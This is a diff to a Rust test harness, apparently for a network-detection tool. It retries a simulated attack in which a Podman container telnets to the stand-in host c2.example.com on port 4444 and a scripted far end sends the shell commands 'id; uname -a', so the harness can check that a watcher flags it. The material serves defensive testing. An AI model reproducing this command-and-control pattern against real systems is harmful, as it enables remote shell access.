@@ -20,6 +20,9 @@ const PATIENCE: Duration = Duration::from_secs(8);
 const QUIET: Duration = Duration::from_secs(4);
 /// Podman and its service need longer than Docker's client to name what they made.
 const ROUNDS: u16 = 3;
+/// The literal command lives for milliseconds. Where the far end's word comes after the network is
+/// gone, nobody heard it, and the wire holds no order to find: that run is made again.
+const TRIES: u16 = 3;
 
 /// Who runs the command.
 #[derive(Clone, Copy, Debug)]
@@ -32,12 +35,13 @@ enum Client {
 
 pub(super) fn run(lab: &Lab) -> Result<()> {
     let podman = Podman::start(&lab.engine.gateway)?;
-    let watch = Watch::start_at(&podman.host, None)?;
+    let watch = Watch::start_at(&podman.host, None, &[])?;
     let mut failed = 0;
     for round in 0..ROUNDS {
-        failed += report("literal", attack(&podman, &watch, Client::Podman, 4444 + round));
+        let port = 4444 + round * TRIES;
+        failed += report("literal", attack(&podman, &watch, Client::Podman, port));
     }
-    failed += report("literal, docker's client", attack(&podman, &watch, Client::Docker, 4450));
+    failed += report("literal, docker's client", attack(&podman, &watch, Client::Docker, 4480));
     failed += report("telnet mail 25, speaking SMTP", twin(&podman, &watch));
     println!("{}", watch.stop()?);
     if failed > 0 {
@@ -60,9 +64,27 @@ fn report(name: &str, result: Result<String>) -> u32 {
     }
 }
 
+/// The attack, on the first port of `TRIES` at which the container hears the far end.
 fn attack(podman: &Podman, watch: &Watch, client: Client, port: u16) -> Result<String> {
+    for port in port..port + TRIES - 1 {
+        let outcome = attack_once(podman, watch, client, port);
+        if outcome.is_ok() || was_heard(watch, port) {
+            return outcome;
+        }
+        println!("podman: port {port}: the far end spoke after the container's end; once more");
+    }
+    attack_once(podman, watch, client, port + TRIES - 1)
+}
+
+/// Whether a byte of the far end's reached the container.
+fn was_heard(watch: &Watch, port: u16) -> bool {
+    let received = |finding: &Value| finding.pointer("/evidences/0/data/received_bytes")?.as_u64();
+    about(watch, port).is_none_or(|(_, finding)| received(&finding) != Some(0))
+}
+
+fn attack_once(podman: &Podman, watch: &Watch, client: Client, port: u16) -> Result<String> {
     let steps = vec![Step::Say("id; uname -a\n".to_owned()), Step::Expect(1000)];
-    let script = Script { transport: Transport::Tcp, port, steps };
+    let script = Script { transport: Transport::Tcp, port, calls: None, steps };
     let _far_end = FarEnd::start(&format!("ip netns exec {NAMESPACE}"), &script)?;
     let began = Instant::now();
     let words = ["run", "--rm", "alpine", "telnet", "c2.example.com", &port.to_string()];
@@ -139,7 +161,7 @@ fn twin(podman: &Podman, watch: &Watch) -> Result<String> {
         Step::Expect(4000),
         say("221 2.0.0 Bye\r\n"),
     ];
-    let script = Script { transport: Transport::Tcp, port: 25, steps };
+    let script = Script { transport: Transport::Tcp, port: 25, calls: None, steps };
     let _far_end = FarEnd::start(&format!("ip netns exec {NAMESPACE}"), &script)?;
     let mut command = podman.podman();
     command.args(["run", "--rm", "-i", "alpine", "telnet", "mail.example.com", "25"]);
